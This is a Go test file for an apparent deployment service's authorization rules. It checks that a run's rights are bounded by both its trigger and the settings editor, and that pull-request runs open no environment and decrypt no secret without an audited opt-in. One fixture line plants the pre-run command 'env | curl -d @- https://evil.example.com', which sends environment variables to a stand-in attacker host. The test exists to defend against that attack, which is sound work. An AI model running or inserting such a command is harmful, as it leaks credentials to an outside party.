package httpapi_test

import (
	"context"
	"encoding/json"
	"net/http"
	"strings"
	"testing"

	gatehouse "github.com/gatehouse-dev/gatehouse"
	"github.com/gatehouse-dev/gatehouse/deploy"
	"github.com/gatehouse-dev/gatehouse/httpapi"
	"github.com/gatehouse-dev/gatehouse/internal/cliwire"
	"github.com/pulumi/pulumi/sdk/v3/go/common/apitype"
)

// TestDeploymentRunNeedsTriggerAndEditor: a REST run executes the settings editor's code
// (pre-run commands, repository) on behalf of whoever triggered it. A stack admin who may
// edit the settings but not open vault plants commands, then an organization admin
// triggers a run: its credential opens what both may (app), never vault, and the refusal
// names the run and the principal who lacks the right. Decided at each call, for both.
func TestDeploymentRunNeedsTriggerAndEditor(t *testing.T) {
	d := newDeployEnv(t)
	d.deployEnvs()
	// dev is a stack admin of prod (may edit its deployment settings), not of vault.
	d.must(d.admin.Do(cliwire.Call{Method: "PATCH", Path: "/api/orgs/acme/teams/devs", Body: map[string]any{"addGrant": map[string]any{"stack": "proj/prod", "permission": "admin"}}}, nil))
	planted := strings.Replace(gitSettings, `"preRunCommands":["echo hi"]`, `"preRunCommands":["env | curl -d @- https://evil.example.com"]`, 1)
	d.must(d.dev.Do(cliwire.Call{Method: "POST", Path: d.prod + "/deployments/settings", Body: json.RawMessage(planted)}, nil))

	_, err := d.trigger(d.admin, "update")
	d.must(err)
	job := d.lease()
	if job == nil {
		t.Fatal("nothing to lease")
	}
	id, cred := job.ID, d.esc(job.Credential)
	var dep *gatehouse.Deployment
	d.must(d.srv.Store.View(context.Background(), func(tx gatehouse.Tx) error {
		var err error
		dep, err = tx.GetDeployment(id)
		return err
	}))
	if dep.ActsFor.Kind != gatehouse.PrincipalToken || dep.Editor.Kind != gatehouse.PrincipalToken || dep.ActsFor == dep.Editor {
		t.Fatalf("the run records trigger %+v and editor %+v; want the admin's and dev's tokens", dep.ActsFor, dep.Editor)
	}

	// vault: the admin may open it, dev may not: refused, naming the run and dev.
	r := cred.do("POST", escBase+"/acme/proj/vault/open?duration=2h0m0s", nil)
	if r.status != 404 && r.status != 403 || !strings.Contains(string(r.body), id) || !strings.Contains(string(r.body), "dev") {
		t.Fatalf("open of vault by the admin's run of dev's code: %d %s", r.status, r.body)
	}
	if r, vals := openAs(cred, `"proj/vault"`); r.status == 200 || strings.Contains(vals, "vault-s3cret") {
		t.Fatalf("yaml/open of vault by the admin's run of dev's code: %d %s", r.status, vals)
	}
	// app: both may open it.
	if r, vals := openAs(cred, `"proj/app"`); r.status != 200 || !strings.Contains(vals, "app-s3cret") {
		t.Fatalf("yaml/open of app, which both may open: %d %s", r.status, r.body)
	}
	// Decided now: dev loses open on app; the run loses it too, and says dev lacks it.
	d.envGrant("devs", "proj", "app", "read")
	r = cred.want(403, "POST", escBase+"/acme/proj/app/open?duration=2h0m0s", nil)
	if b := string(r.body); !strings.Contains(b, id) || !strings.Contains(b, "settings editor") || !strings.Contains(b, "dev") {
		t.Errorf("refusal does not name the run and the editor: %s", b)
	}
	cred.want(200, "GET", escBase+"/acme/proj/app", nil)
	d.must(d.complete(job, "succeeded"))

	// The other way round: dev triggers the admin's settings: dev's rights bound it.
	d.envGrant("devs", "proj", "app", "open")
	d.must(d.settings([]byte(gitSettings)))
	_, err = d.trigger(d.dev, "update")
	d.must(err)
	job2 := d.lease()
	if job2 == nil {
		t.Fatal("nothing to lease")
	}
	id2, cred2 := job2.ID, d.esc(job2.Credential)
	if r, _ := openAs(cred2, `"proj/app"`); r.status != 200 {
		t.Fatalf("yaml/open of app by dev's run of the admin's settings: %d %s", r.status, r.body)
	}
	if r := cred2.do("POST", escBase+"/acme/proj/vault/open?duration=2h0m0s", nil); r.status == 200 || !strings.Contains(string(r.body), id2) {
		t.Fatalf("open of vault by dev's run: %d %s", r.status, r.body)
	}
	d.must(d.complete(job2, "succeeded"))

	// A trigger that does not inherit the settings brings all of its code: its author is
	// the editor too (the admin's own run opens vault).
	var out map[string]any
	d.must(d.admin.Do(cliwire.Call{Method: "POST", Path: d.prod + "/deployments", Body: map[string]any{"operation": "update", "inheritSettings": false,
		"sourceContext": map[string]any{"git": map[string]any{"repoUrl": "https://git.example.com/acme/infra.git", "branch": "main"}}}}, &out))
	job3 := d.lease()
	if job3 == nil {
		t.Fatal("nothing to lease")
	}
	if r, vals := openAs(d.esc(job3.Credential), `"proj/vault"`); r.status != 200 || !strings.Contains(vals, "vault-s3cret") {
		t.Fatalf("the admin's run of the admin's own code: yaml/open of vault: %d %s", r.status, r.body)
	}

	// The refusals are audited with both principals.
	evs, err := listAudit(d.env)
	d.must(err)
	var denied bool
	for _, ev := range evs {
		if ev.Details["deployment"] == id && ev.Outcome == gatehouse.OutcomeDenied && strings.HasPrefix(ev.Action, "env:") {
			denied = true
			if !strings.Contains(ev.Details["editor"], "dev") || !strings.Contains(ev.Details["actsFor"], "alice") {
				t.Errorf("denial %s lacks the principals: %v", ev.Action, ev.Details)
			}
		}
	}
	if !denied {
		t.Error("no audited denial of the admin's run")
	}
}

// TestDeploymentPullRequestRunOpensNoEnvironment: a pull request's code is not reviewed;
// its preview acts for nobody (the stack operation itself runs) unless the settings opt in
// with gatehouse.pullRequestEnvironments, which only a settings editor may set (audited),
// which the stock CLI's settings reader ignores and merge-patches keep. Pushes to the
// branch (merged code) act for the editor as before.
func TestDeploymentPullRequestRunOpensNoEnvironment(t *testing.T) {
	gh := newFakeVCS(t)
	const secret = "whsec-test"
	d := newDeployEnv(t, func(c *httpapi.Config) { c.Deploy.GitHub = deploy_VCS(secret, gh.srv.URL, "gh-token") })
	d.deployEnvs()
	anon := cliwire.New(d.url, "")
	n := 0
	hook := func(event string, body []byte) (*deploy.Job, escClient) {
		t.Helper()
		n++
		d.must(anon.Do(cliwire.Call{Method: "POST", Path: "/api/deployments/webhooks/github", Body: body, NoAuth: true,
			Header: http.Header{"X-GitHub-Event": {event}, "X-GitHub-Delivery": {"d-" + event + string(rune('a'+n))}, "X-Hub-Signature-256": {sign(secret, body)}}}, nil))
		job := d.lease()
		if job == nil {
			t.Fatalf("the %s queued no run", event)
		}
		return job, d.esc(job.Credential)
	}
	pr := []byte(`{"action":"opened","number":7,"pull_request":{"head":{"ref":"feature","sha":"def456","repo":{"full_name":"acme/infra"}},"base":{"ref":"main"}},"repository":{"full_name":"acme/infra"},"sender":{"login":"octo"}}`)
	push := []byte(`{"ref":"refs/heads/main","after":"abc123","repository":{"full_name":"acme/infra"},"sender":{"login":"octo"},
		"commits":[{"added":[],"removed":[],"modified":["infra/main.go"]}]}`)

	d.must(d.settings([]byte(gitSettings))) // by the admin, who may open everything
	job, cred := hook("pull_request", pr)
	id := job.ID
	r := cred.want(403, "POST", escBase+"/acme/proj/app/open?duration=2h0m0s", nil)
	if b := string(r.body); !strings.Contains(b, id) || !strings.Contains(b, "pull/merge request #7") || !strings.Contains(b, "pullRequestEnvironments") {
		t.Errorf("refusal of a pull request's run: %s", b)
	}
	if r, _ := openAs(cred, `"proj/app"`); r.status == 200 {
		t.Fatalf("yaml/open by a pull request's run: %d %s", r.status, r.body)
	}
	// The run itself goes on: its credential reads its stack.
	d.must(cliwire.New(d.url, cred.token).Do(cliwire.Call{Method: "GET", Path: d.prod}, nil))
	d.must(d.complete(job, "succeeded"))

	// A push to main: merged code, the editor's rights as before.
	job, cred = hook("push", push)
	if r, vals := openAs(cred, `"proj/vault"`); r.status != 200 || !strings.Contains(vals, "vault-s3cret") {
		t.Fatalf("push run: yaml/open of vault: %d %s", r.status, r.body)
	}
	d.must(d.complete(job, "succeeded"))

	// The opt-in: not for someone who may not edit the settings; the editor's, audited.
	optIn := map[string]any{"gatehouse": map[string]any{"pullRequestEnvironments": true}}
	wantStatus(t, d.dev.Do(cliwire.Call{Method: "POST", Path: d.prod + "/deployments/settings", Body: optIn}, nil), 403)
	wantStatus(t, d.settings(map[string]any{"gatehouse": map[string]any{"pullRequestEnvironment": true}}), 400)
	wantStatus(t, d.settings(map[string]any{"gatehouse": map[string]any{"pullRequestEnvironments": "yes"}}), 400)
	d.must(d.settings(optIn))
	// Kept by a later merge-patch (pulumi deployment settings configure/env), read back
	// by GET, and the document still decodes as the CLI decodes it.
	d.must(d.settings(map[string]any{"operationContext": map[string]any{"preRunCommands": []string{"echo again"}}}))
	var raw []byte
	d.must(d.admin.Do(cliwire.Call{Method: "GET", Path: d.prod + "/deployments/settings"}, &raw))
	var doc struct {
		Gatehouse struct {
			PullRequestEnvironments bool `json:"pullRequestEnvironments"`
		} `json:"gatehouse"`
	}
	var cli apitype.DeploymentSettings
	if err := json.Unmarshal(raw, &doc); err != nil || !doc.Gatehouse.PullRequestEnvironments {
		t.Fatalf("GET settings after the opt-in: %s %v", raw, err)
	}
	if err := json.Unmarshal(raw, &cli); err != nil || cli.SourceContext == nil || cli.SourceContext.Git == nil || cli.SourceContext.Git.Branch != "main" {
		t.Fatalf("the CLI's decoding of the settings: %+v %v", cli, err)
	}
	evs, err := listAudit(d.env)
	d.must(err)
	var on bool
	for _, ev := range evs {
		if ev.Outcome == gatehouse.OutcomeSuccess && ev.Details["pullRequestEnvironments"] == "true" && strings.Contains(ev.ActorName, "alice") {
			on = true
		}
	}
	if !on {
		t.Error("the opt-in is not in the audit log")
	}

	// Opted in: the pull request's run acts for the editor.
	job, cred = hook("pull_request", pr)
	if r, vals := openAs(cred, `"proj/app"`); r.status != 200 || !strings.Contains(vals, "app-s3cret") {
		t.Fatalf("opted-in pull request run: yaml/open of app: %d %s", r.status, r.body)
	}
	d.must(d.complete(job, "succeeded"))

	// Off again (merge-patch null): nobody again.
	d.must(d.settings(map[string]any{"gatehouse": nil}))
	_, cred = hook("pull_request", pr)
	cred.want(403, "POST", escBase+"/acme/proj/app/open?duration=2h0m0s", nil)
}

// TestDeploymentGitLabMergeRequestOpensNoEnvironment: the same for a GitLab merge request,
// while a push to the branch acts for the settings' editor.
func TestDeploymentGitLabMergeRequestOpensNoEnvironment(t *testing.T) {
	gl := newFakeVCS(t)
	d := newDeployEnv(t, func(c *httpapi.Config) { c.Deploy.GitLab = deploy_VCS("gl-secret", gl.srv.URL, "gl-token") })
	d.deployEnvs()
	d.must(d.settings(map[string]any{"sourceContext": map[string]any{"git": map[string]any{"repoUrl": "git@gitlab.example.com:acme/infra.git", "branch": "main"}}}))
	anon := cliwire.New(d.url, "")
	project := `"project":{"path_with_namespace":"acme/infra","git_http_url":"https://gitlab.example.com/acme/infra.git"}`
	hook := func(event string, body string) (*deploy.Job, escClient) {
		t.Helper()
		d.must(anon.Do(cliwire.Call{Method: "POST", Path: "/api/deployments/webhooks/gitlab", Body: []byte(body), NoAuth: true,
			Header: http.Header{"X-Gitlab-Event": {event}, "X-Gitlab-Token": {"gl-secret"}}}, nil))
		job := d.lease()
		if job == nil {
			t.Fatalf("the %s queued no run", event)
		}
		return job, d.esc(job.Credential)
	}
	job, cred := hook("Merge Request Hook", `{"object_kind":"merge_request","user":{"username":"gl-user"},`+project+`,
		"object_attributes":{"iid":5,"action":"open","source_branch":"feature","target_branch":"main","last_commit":{"id":"c0ffee"}}}`)
	if r := cred.want(403, "POST", escBase+"/acme/proj/app/open?duration=2h0m0s", nil); !strings.Contains(string(r.body), "#5") {
		t.Errorf("refusal of a merge request's run: %s", r.body)
	}
	d.must(d.complete(job, "succeeded"))
	job, cred = hook("Push Hook", `{"object_kind":"push","ref":"refs/heads/main","checkout_sha":"c0ffee","user_username":"gl-user",`+project+`,"commits":[]}`)
	if r, vals := openAs(cred, `"proj/vault"`); r.status != 200 || !strings.Contains(vals, "vault-s3cret") {
		t.Fatalf("push run: yaml/open of vault: %d %s", r.status, r.body)
	}
	d.must(d.complete(job, "succeeded"))
}

// TestDeploymentPullRequestRunDecryptsNothing (found in review): a run of a pull request
// from a branch of the repository itself (not a fork, which never runs) executes code that
// nobody reviewed; it acts for nobody, so its credential decrypts no secret of the stack
// (as it opens no environment), unless the settings opt in. A push's run (merged code)
// decrypts as before.
func TestDeploymentPullRequestRunDecryptsNothing(t *testing.T) {
	gh := newFakeVCS(t)
	const secret = "whsec-test"
	d := newDeployEnv(t, func(c *httpapi.Config) { c.Deploy.GitHub = deploy_VCS(secret, gh.srv.URL, "gh-token") })
	var enc apitype.EncryptValueResponse
	d.must(d.admin.Do(cliwire.Call{Method: "POST", Path: d.prod + "/encrypt", Body: apitype.EncryptValueRequest{Plaintext: []byte(`"db-password"`)}}, &enc))
	anon := cliwire.New(d.url, "")
	n := 0
	hook := func(event string, body []byte) *deploy.Job {
		t.Helper()
		n++
		d.must(anon.Do(cliwire.Call{Method: "POST", Path: "/api/deployments/webhooks/github", Body: body, NoAuth: true,
			Header: http.Header{"X-GitHub-Event": {event}, "X-GitHub-Delivery": {"dec-" + event + string(rune('a'+n))}, "X-Hub-Signature-256": {sign(secret, body)}}}, nil))
		job := d.lease()
		if job == nil {
			t.Fatalf("the %s queued no run", event)
		}
		return job
	}
	decrypt := func(job *deploy.Job) (string, error) {
		var dec apitype.DecryptValueResponse
		err := cliwire.New(d.url, job.Credential).Do(cliwire.Call{Method: "POST", Path: d.prod + "/decrypt", Body: apitype.DecryptValueRequest{Ciphertext: enc.Ciphertext}}, &dec)
		return string(dec.Plaintext), err
	}
	pr := []byte(`{"action":"opened","number":7,"pull_request":{"head":{"ref":"feature","sha":"def456","repo":{"full_name":"acme/infra"}},"base":{"ref":"main"}},"repository":{"full_name":"acme/infra"},"sender":{"login":"octo"}}`)
	push := []byte(`{"ref":"refs/heads/main","after":"abc123","repository":{"full_name":"acme/infra"},"sender":{"login":"octo"},
		"commits":[{"added":[],"removed":[],"modified":["infra/main.go"]}]}`)
	d.must(d.settings([]byte(gitSettings)))

	job := hook("pull_request", pr)
	if pt, err := decrypt(job); err == nil {
		t.Errorf("a pull request's run decrypted the stack secret %q", pt)
	} else if !strings.Contains(err.Error(), "403") || !strings.Contains(err.Error(), "pull/merge request #7") || !strings.Contains(err.Error(), "pullRequestEnvironments") {
		t.Errorf("refusal of a pull request run's /decrypt: %v", err)
	}
	// The rest of what a preview reads goes on.
	cred := cliwire.New(d.url, job.Credential)
	d.must(cred.Do(cliwire.Call{Method: "GET", Path: d.prod}, nil))
	d.must(cred.Do(cliwire.Call{Method: "POST", Path: d.prod + "/encrypt", Body: apitype.EncryptValueRequest{Plaintext: []byte(`"x"`)}}, nil))
	d.must(d.complete(job, "succeeded"))

	job = hook("push", push)
	if pt, err := decrypt(job); err != nil || pt != `"db-password"` {
		t.Errorf("a push run's /decrypt: %q %v", pt, err)
	}
	d.must(d.complete(job, "succeeded"))

	// Opted in: the request's run acts for the settings' editor, and decrypts.
	d.must(d.settings(map[string]any{"gatehouse": map[string]any{"pullRequestEnvironments": true}}))
	job = hook("pull_request", pr)
	if pt, err := decrypt(job); err != nil || pt != `"db-password"` {
		t.Errorf("an opted-in pull request run's /decrypt: %q %v", pt, err)
	}
	d.must(d.complete(job, "succeeded"))
}
